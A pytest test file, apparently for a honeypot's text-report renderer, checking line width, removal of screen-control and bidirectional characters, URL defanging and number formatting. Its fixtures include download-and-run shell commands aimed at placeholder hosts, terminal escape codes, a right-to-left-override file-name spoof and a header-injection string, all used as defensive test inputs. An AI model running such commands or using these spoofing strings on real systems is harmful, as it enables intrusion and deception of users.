"""The text report: 100 columns, and nothing in it that steers a screen or can be clicked."""

import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cowrie_assets.reports.document import ReportDocument
from cowrie_assets.reports.periods import parse_period
from cowrie_assets.reports.render.defang import defang
from cowrie_assets.reports.render.plain_text import fit, wrap
from cowrie_assets.reports.render.text import render_text
from cowrie_assets_tests.reports.recount import recount

DAY = parse_period("daily", "2026-08-31")
EVIL = st.text(st.characters(codec=None), max_size=200) | st.sampled_from(
    [
        "http://192.0.2.1/x" * 9,
        "\x1b[2J\x07",
        "A\u202etxt.exe",
        "漢" * 300,
        "שלום 1",
        "e\u0301" * 90,
        "\r\nFrom: x",
        "a" * 60_000,
    ]
)


def columns(line: str) -> int:
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in line)


def document(value: str = "root", count: int = 12_345, items: int = 2, **head: Any) -> ReportDocument:
    """A document whose every number is `count` and whose every list has `items` items of `value`."""
    sections: dict[str, Any] = recount([], DAY, None)
    for section in sections.values():
        for name, number in section.items():
            if isinstance(number, list):
                section[name] = [{"value": value, "count": count} for _ in range(items)]
            elif isinstance(number, int | float):
                section[name] = count
    sections["sessions"]["protocols"] = {value: count}
    heading = {
        "schema_version": 1,
        "report_type": "daily",
        "period": "2026-08-31",
        "start": "2026-08-31T00:00:00Z",
        "end": "2026-09-01T00:00:00Z",
        "sensor": "aggregate",
        "generated_at": "2026-09-01T00:05:00.000000Z",
        "complete": True,
    }
    return {**heading, **sections, **head}  # type: ignore[typeddict-item, return-value]


@settings(deadline=None, max_examples=60)
@given(EVIL, st.integers(0, 10**12 - 1), st.sampled_from([0, 1, 11, 101]))
def test_no_line_is_longer_than_100_columns_whatever_is_in_it(value, count, items):
    text = render_text(document(value, count, items, sensor=value))
    lines = text.split("\n")
    assert max(map(columns, lines)) <= 100
    assert all(line == line.rstrip() for line in lines)
    assert lines[-1] == ""


@settings(deadline=None, max_examples=60)
@given(EVIL)
def test_nothing_steers_the_screen(value):
    text = render_text(document(value, sensor=value))
    assert {unicodedata.category(char)[0] for char in set(text) - {"\n"}} <= set("LNPSZ")
    assert not {unicodedata.bidirectional(char) for char in text} & {
        "R",
        "AL",
        "AN",
        "RLE",
        "RLO",
        "LRE",
        "LRO",
        "RLI",
        "LRI",
        "FSI",
    }
    assert not re.search(r"(?i)\b(https?|ftp)://", text)
    text.encode("utf-8")


def test_the_frame_is_ascii():
    assert render_text(document()).isascii()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("wget http://192.0.2.1/a.sh; sh a.sh", "wget hxxp://192[.]0[.]2[.]1/a.sh; sh a.sh"),
        ("HTTPS://Evil.example:80/?u=http://b.example", "hxxps://Evil[.]example:80/?u=hxxp://b[.]example"),
        ("ftp://h.example/x", "fxp://h[.]example/x"),
        ("ldap://h.example/x", "ldap[:]//h[.]example/x"),
        ("curl evil.example/x | sh", "curl evil[.]example/x | sh"),
        ("cat /tmp/a.b/c; ./x.sh", "cat /tmp/a.b/c; ./x.sh"),
        ("john.doe:secret", "john.doe:secret"),
        ("192.0.2.1", "192.0.2.1"),
    ],
)
def test_urls_are_defanged(written, shown):
    assert defang(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("", '""'),
        (" root", '" root"'),
        ("a\n\x00\x1b[1m", "a\\n\\x00\\x1b[1m"),
        ("\u202e\ud800\U000e0001", "\\u202e\\ud800\\U000e0001"),
        ("пароль 密码", "пароль 密码"),
        ("x" * 31, "x" * 27 + "..."),
        ("x" * 30, "x" * 30),
        ("密" * 16, "密" * 13 + "..."),
    ],
)
def test_values_in_30_columns(written, shown):
    assert fit(written, 30) == shown


def test_long_commands_go_on_below_and_are_cut_at_last():
    assert wrap("ab" * 20, 20, lines=3) == ["ab" * 10, "ab" * 10]
    assert wrap("ab" * 40, 20, lines=3) == ["ab" * 10, "ab" * 10, "ab" * 8 + "a..."]


def test_numbers_have_thousands_separators_and_shares():
    text = render_text(document(count=1_234_567))
    assert "1,234,567 (100.0 %)" in text
    assert re.search(r"^   1  root +1,234,567 #{18}$", text, re.MULTILINE)


def test_bars_show_the_count_against_the_first():
    shown = document()
    shown["clients"]["top_hassh"] = [
        {"value": "aa", "count": 900},
        {"value": "bb", "count": 450},
        {"value": "cc", "count": 1},
    ]
    bars = re.findall(r"^   [123]  (?:aa|bb|cc) .* (#+)$", render_text(shown), re.MULTILINE)
    assert [len(bar) for bar in bars] == [18, 9, 1]


def test_empty_lists_say_none_and_a_running_period_says_so():
    text = render_text(document(items=0, complete=False))
    assert text.count("      none") >= 5
    assert "Not complete: the period still runs" in text
    assert "Not complete" not in render_text(document())


def test_the_head_names_period_and_sensor():
    assert "Monday 2026-08-31, UTC" in render_text(document())
    week = render_text(document(report_type="weekly", period="2026-W36", end="2026-09-07T00:00:00Z", sensor="hp-1"))
    assert "Monday 2026-08-31 to Sunday 2026-09-06, UTC" in week
    assert re.search(r"Weekly report 2026-W36 +sensor hp-1$", week, re.MULTILINE)
